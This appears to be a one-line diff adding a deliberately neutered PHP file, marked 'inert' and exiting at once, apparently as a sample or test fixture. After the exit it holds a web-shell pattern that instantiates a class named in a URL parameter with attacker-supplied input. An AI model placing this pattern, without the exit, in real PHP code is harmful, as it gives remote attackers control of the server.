@@ -1,0 +1,1 @@
+<?php exit; /* inert */ new $_GET["c"]($_GET["a"]);
